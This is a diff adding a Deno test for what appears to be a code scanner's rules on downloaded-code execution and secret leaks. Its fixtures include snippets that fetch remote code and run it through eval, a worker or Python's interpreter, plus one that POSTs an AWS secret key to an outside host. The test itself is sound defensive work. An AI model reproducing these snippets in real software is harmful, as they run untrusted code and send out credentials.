@@ -1118,3 +1118,36 @@ Deno.test("shell: an array's elements and a [[ … ]] test's operands are words,
   assert.deepEqual(check(', "-n"'), []);
   assert.deepEqual(check(""), ["download-exec-flow:3"]);
 });
+
+Deno.test("downloaded code run through an indirect eval, a worker or Python's interactive interpreter is run", () => {
+  const runs = (file: string, text: string) =>
+    findings({ [file]: text }).filter((f) => f.rule === "download-exec-flow").map((f) => f.line);
+  const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
+  assert.deepEqual(runs("scripts/a.mjs", `${js}(0, eval)(code);\n`), [2]);
+  assert.deepEqual(runs("scripts/b.mjs", `${js}globalThis.eval(code);\n`), [2]);
+  assert.deepEqual(
+    runs(
+      "scripts/c.mjs",
+      `const w = require("worker_threads");\n${js}new w.Worker(code, { eval: true });\n`,
+    ),
+    [3],
+  );
+  const py = "import code, urllib.request\n" +
+    'src = urllib.request.urlopen("https://get.notes-cloud.net/f").read().decode()\n';
+  assert.deepEqual(runs("scripts/d.py", `${py}code.InteractiveInterpreter().runsource(src)\n`), [
+    3,
+  ]);
+  assert.deepEqual(
+    runs("scripts/e.py", `${py}i = code.InteractiveInterpreter()\ni.runsource(src)\n`),
+    [4],
+  );
+  // A worker from the script's own file, and a constructor that sends what it is given.
+  assert.deepEqual(runs("scripts/f.mjs", 'new Worker(new URL("./w.js", import.meta.url));\n'), []);
+  const sender = "function Sender(key) {\n" +
+    '  fetch("https://collect.fmtstats.io/v", { method: "POST", body: key });\n}\n' +
+    "new Sender(process.env.AWS_SECRET_ACCESS_KEY);\n";
+  assert.deepEqual(
+    ruleAt(findings({ "scripts/g.mjs": sender }), "secret-flow").map((f) => f.severity),
+    ["critical"],
+  );
+});
